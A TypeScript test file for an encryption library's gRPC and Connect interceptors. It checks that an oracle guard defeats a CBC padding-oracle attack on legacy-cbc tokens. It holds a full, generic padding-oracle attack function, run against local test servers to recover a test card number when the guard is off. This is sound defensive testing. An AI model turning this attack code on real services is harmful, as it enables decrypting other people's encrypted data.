// The CBC padding-oracle attack on legacy-cbc, run for real (issue 15).
//
// A server that accepts legacy-cbc answers a forged `IV' ‖ C` by running the
// handler (the padding and UTF-8 are valid) or with INVALID_ARGUMENT: one bit
// per call, identical errors or not. Keeping the IV bytes it is not probing
// equal to the real ones, an attacker who has seen one token and can call the
// service recovers it byte by byte. With the guard switched off this file
// recovers a card number over gRPC (documenting the truth and guarding the
// attack code itself); with the defaults it recovers no byte.
import assert from "node:assert/strict";
import { createCipheriv } from "node:crypto";
import { after, before, describe, it } from "node:test";
import { create } from "@bufbuild/protobuf";
import { ConnectError, createClient, createRouterTransport } from "@connectrpc/connect";
import { credentials, Server, ServerCredentials, type ServerUnaryCall, type sendUnaryData, status } from "@grpc/grpc-js";
import { createConnectClientInterceptor, createConnectServerInterceptor } from "@szcrypt/connect";
import { isOracleGuardRefusal, ORACLE_GUARD_DEFAULTS, parseKeySpec, type SzcryptError } from "@szcrypt/core";
import { createFieldPolicy } from "@szcrypt/core/adapter";
import { type Payment, PaymentSchema, PaymentService } from "@szcrypt/example";
import { createClientInterceptor, createGrpcClient, createGrpcServiceDefinition, createServerInterceptor } from "@szcrypt/grpc-js";
import { type PaymentClient, type Running, startServer, unary } from "./harness/grpc.js";

const KEY_HEX = "a7".repeat(32);
const key = parseKeySpec(`hex:${KEY_HEX}`);
const CARD = "4111111111111111"; // 16 bytes: one block of digits, then a block of padding
// A fixed IV so that every run attacks the same token. The attacker decrypts
// `threshold` probes of a block before the guard refuses it; for a random IV
// the chance that one of them is the right guess for the block's last byte is
// threshold/256. For this IV it is not, checked below, so the outcome is fixed.
const IV = Buffer.from("5f3c0e9a1b7d2468ace013579bdf8642", "hex");

/** The token, made with node:crypto directly rather than the code under test. */
function legacyToken(iv: Buffer, text: string): Buffer {
  const cipher = createCipheriv("aes-256-cbc", Buffer.from(KEY_HEX, "hex"), iv);
  return Buffer.concat([iv, cipher.update(text, "utf8"), cipher.final()]);
}
const TOKEN = legacyToken(IV, CARD);
const C1 = TOKEN.subarray(16, 32);

/** One call: does the service accept `iv ‖ block` as a card number? */
type Oracle = (forged: Buffer) => Promise<boolean>;

interface AttackResult {
  /** Plaintext bytes recovered, from the end of the block; undefined where not found. */
  readonly recovered: (number | undefined)[];
  readonly queries: number;
}

/**
 * The textbook attack on one block: for each byte from the last, try every
 * value of the matching IV byte until the padding is valid, with the IV bytes
 * already solved set to give the padding length under test. A byte that no
 * guess solves (every probe refused) is searched again, until `budget`
 * queries are spent. `between` runs after every probe (junk failures).
 */
async function attackBlock(
  oracle: Oracle,
  prev: Buffer,
  block: Buffer,
  budget: number,
  between?: () => Promise<void>,
): Promise<AttackResult> {
  const inter: (number | undefined)[] = new Array(16).fill(undefined);
  let queries = 0;
  const probe = async (iv: Buffer) => {
    queries++;
    const ok = await oracle(Buffer.concat([iv, block]));
    await between?.();
    return ok;
  };
  for (let j = 15; j >= 0 && queries < budget; ) {
    const pad = 16 - j;
    let found = false;
    for (let g = 0; g < 256 && queries < budget && !found; g++) {
      const iv = Buffer.from(prev); // bytes not probed stay as they were: the prefix stays valid UTF-8
      for (let k = j + 1; k < 16; k++) {
        iv[k] = (inter[k] as number) ^ pad;
      }
      iv[j] = g;
      if (!(await probe(iv))) {
        continue;
      }
      if (j === 15) {
        // Rule out a longer valid padding (…02 02): change the byte before,
        // by its low bit so that a digit stays a digit (valid UTF-8).
        const check = Buffer.from(iv);
        check[14] = (check[14] as number) ^ 0x01;
        if (!(await probe(check))) {
          continue;
        }
      }
      inter[j] = g ^ pad;
      found = true;
    }
    if (found) {
      j--;
    }
  }
  return { recovered: inter.map((v, i) => (v === undefined ? undefined : v ^ (prev[i] as number))), queries };
}

function recoveredText(r: AttackResult): string {
  return Buffer.from(r.recovered.map((b) => b ?? 0x3f)).toString("latin1");
}

function grpcOracle(client: PaymentClient): Oracle {
  return async (forged) => {
    const r = await unary(client, { cardNumber: forged.toString("base64") });
    if (!r.ok && r.error.code !== status.INVALID_ARGUMENT) {
      throw new Error(`unexpected status ${r.error.code}: ${r.error.details}`);
    }
    return r.ok;
  };
}

describe("padding-oracle attack over gRPC", () => {
  it("precondition: the right first guess is not among the probes the guard lets through", () => {
    const rightGuess = (IV[15] as number) ^ CARD.charCodeAt(15) ^ 0x01;
    assert.ok(rightGuess >= ORACLE_GUARD_DEFAULTS.threshold, `pick another IV: the guess ${rightGuess} comes too early`);
  });

  it("with the guard switched off, recovers the card number from one token", async () => {
    const server = await startServer([createServerInterceptor({ key, oracleGuard: false })]);
    try {
      const result = await attackBlock(grpcOracle(server.client()), IV, C1, 10_000);
      assert.equal(recoveredText(result), CARD);
      // ~128 calls a byte on average: about 2,000 for the card.
      assert.ok(result.queries < 2_500, `${result.queries} queries`);
    } finally {
      await server.close();
    }
  });

  describe("with the defaults", () => {
    let server: Running;
    const reports: { error: SzcryptError; side: string }[] = [];
    before(async () => {
      server = await startServer([createServerInterceptor({ key, onError: (error, ctx) => reports.push({ error, side: ctx.side }) })]);
    });
    after(() => server.close());

    it("recovers no byte in 2,500 calls (more than the whole card took above), and reports the refusals through onError", async () => {
      const result = await attackBlock(grpcOracle(server.client()), IV, C1, 2_500);
      assert.deepEqual(result.recovered, new Array(16).fill(undefined));
      assert.equal(result.queries, 2_500);
      const refused = reports.filter((r) => isOracleGuardRefusal(r.error));
      assert.equal(reports.length, 2_500);
      assert.equal(refused.length, 2_500 - ORACLE_GUARD_DEFAULTS.threshold);
      assert.ok(refused.every((r) => r.side === "server"));
    });

    it("keeps serving valid calls, from szcrypt clients and from tokens made elsewhere", async () => {
      const client = server.client([createClientInterceptor({ key })]);
      for (let i = 0; i < 20; i++) {
        const r = await unary(client, { cardNumber: `4000 0000 0000 ${String(i).padStart(4, "0")}` });
        assert.ok(r.ok, "a valid call was refused");
        assert.equal(r.value.cardNumber, `4000 0000 0000 ${String(i).padStart(4, "0")}`);
      }
      const plain = server.client();
      const other = legacyToken(Buffer.from("00112233445566778899aabbccddeeff", "hex"), CARD);
      const r = await unary(plain, { cardNumber: other.toString("base64") });
      assert.ok(r.ok, "a token made with node:crypto was refused");
    });
  });
});

describe("padding-oracle attack on the decrypt path, 100,000 queries", () => {
  // The path the interceptors run, driven directly: the loopback server
  // answers a few thousand calls a second, too slow for 100,000 in CI.
  // Every failed query builds errors; their stack traces are most of its cost
  // and play no part in what is tested, so they are off here.
  let stackTraceLimit = Error.stackTraceLimit;
  before(() => {
    stackTraceLimit = Error.stackTraceLimit;
    Error.stackTraceLimit = 0;
  });
  after(() => {
    Error.stackTraceLimit = stackTraceLimit;
  });
  const path = "/sz.examples.v1.PaymentService/Authorize";
  const oracleOf = (crypto: ReturnType<ReturnType<typeof createFieldPolicy>["cryptoFor"]>): Oracle => {
    return async (forged) => {
      try {
        crypto.decryptMessage(PaymentSchema, create(PaymentSchema, { cardNumber: forged.toString("base64") }));
        return true;
      } catch {
        return false;
      }
    };
  };

  it("guard off: recovers the card number (the same attack, the same oracle)", async () => {
    const crypto = createFieldPolicy({ key, oracleGuard: false }).cryptoFor(path);
    assert.equal(recoveredText(await attackBlock(oracleOf(crypto), IV, C1, 100_000)), CARD);
  });

  it("defaults: recovers no byte in 100,000 queries", async () => {
    const crypto = createFieldPolicy({ key }).cryptoFor(path);
    const result = await attackBlock(oracleOf(crypto), IV, C1, 100_000);
    assert.equal(result.queries, 100_000);
    assert.deepEqual(result.recovered, new Array(16).fill(undefined));
  });

  it("defaults: recovers no byte in 100,000 queries, two in three of them junk failures", async () => {
    const crypto = createFieldPolicy({ key }).cryptoFor(path);
    const oracle = oracleOf(crypto);
    const junk = Buffer.alloc(32);
    let n = 0;
    // Two failures per junk block: each then takes a refused-table entry, as an attacker evicting the attacked block would make it.
    const between = async () => {
      junk.writeUInt32LE(n++, 16);
      await oracle(junk);
      await oracle(junk);
    };
    const result = await attackBlock(oracle, IV, C1, 33_334, between);
    assert.equal(result.queries + 2 * n, 100_002);
    assert.deepEqual(result.recovered, new Array(16).fill(undefined));
    // The same decrypt path still decrypts honest tokens.
    assert.equal(await oracle(legacyToken(Buffer.from("ffeeddccbbaa99887766554433221100", "hex"), CARD)), true);
  });
});

describe("the guard is on by default in every decrypt path", () => {
  // Two forgeries of TOKEN (its IV's last byte changed: invalid UTF-8), then
  // TOKEN itself: by then its blocks have failed twice, so it is refused with
  // the failure the forgeries got. Switched off, TOKEN decrypts.
  const forged = (i: number) => {
    const t = Buffer.from(TOKEN);
    t[15] = (t[15] as number) ^ (0x80 | i);
    return t.toString("base64");
  };
  const sequence = [forged(1), forged(2), TOKEN.toString("base64")];
  type Outcome = { ok: true } | { ok: false; code: number; message: string };
  type Path = (oracleGuard: false | undefined, values: readonly string[]) => Promise<Outcome[]>;
  const guardOption = (g: false | undefined) => (g === false ? { oracleGuard: false as const } : {});

  const connectCall = async (call: () => Promise<unknown>): Promise<Outcome> => {
    try {
      await call();
      return { ok: true };
    } catch (err) {
      const e = ConnectError.from(err);
      return { ok: false, code: e.code, message: e.rawMessage };
    }
  };

  const paths: Record<string, Path> = {
    "grpc-js server": async (g, values) => {
      const server = await startServer([createServerInterceptor({ key, ...guardOption(g) })]);
      try {
        const client = server.client();
        const out: Outcome[] = [];
        for (const v of values) {
          const r = await unary(client, { cardNumber: v });
          out.push(r.ok ? { ok: true } : { ok: false, code: r.error.code, message: r.error.details });
        }
        return out;
      } finally {
        await server.close();
      }
    },
    "grpc-js client": async (g, values) => {
      const queue = [...values];
      const server = new Server();
      server.addService(createGrpcServiceDefinition(PaymentService), {
        authorize(_call: ServerUnaryCall<Payment, Payment>, callback: sendUnaryData<Payment>) {
          callback(null, create(PaymentSchema, { cardNumber: queue.shift() ?? "" }));
        },
      });
      const port = await new Promise<number>((res, rej) =>
        server.bindAsync("127.0.0.1:0", ServerCredentials.createInsecure(), (e, p) => (e ? rej(e) : res(p))),
      );
      const client = createGrpcClient(PaymentService, `127.0.0.1:${port}`, credentials.createInsecure(), {
        interceptors: [createClientInterceptor({ key, ...guardOption(g) })],
      });
      try {
        const out: Outcome[] = [];
        for (const _ of values) {
          const r = await unary(client, {});
          out.push(r.ok ? { ok: true } : { ok: false, code: r.error.code, message: r.error.details });
        }
        return out;
      } finally {
        client.close();
        await new Promise<void>((resolve) => server.tryShutdown(() => resolve()));
      }
    },
    "connect server": async (g, values) => {
      const transport = createRouterTransport((router) => router.service(PaymentService, { authorize: (p) => p }), {
        router: { interceptors: [createConnectServerInterceptor({ key, ...guardOption(g) })] },
      });
      const client = createClient(PaymentService, transport);
      const out: Outcome[] = [];
      for (const v of values) {
        out.push(await connectCall(() => client.authorize({ cardNumber: v })));
      }
      return out;
    },
    "connect client": async (g, values) => {
      const queue = [...values];
      const transport = createRouterTransport(
        (router) => router.service(PaymentService, { authorize: () => create(PaymentSchema, { cardNumber: queue.shift() ?? "" }) }),
        { transport: { interceptors: [createConnectClientInterceptor({ key, ...guardOption(g) })] } },
      );
      const client = createClient(PaymentService, transport);
      const out: Outcome[] = [];
      for (const _ of values) {
        out.push(await connectCall(() => client.authorize({})));
      }
      return out;
    },
  };

  for (const [name, path] of Object.entries(paths)) {
    it(`${name}: refuses the token whose blocks failed, exactly as it failed the forgeries`, async () => {
      const [first, second, token] = await path(undefined, sequence);
      assert.ok(first !== undefined && !first.ok);
      assert.deepEqual(second, first);
      assert.deepEqual(token, first, "the token was decrypted after its blocks had failed twice");
    });
    it(`${name}: switched off explicitly, decrypts it`, async () => {
      const outcomes = await path(false, sequence);
      assert.deepEqual(outcomes[2], { ok: true });
    });
  }
});
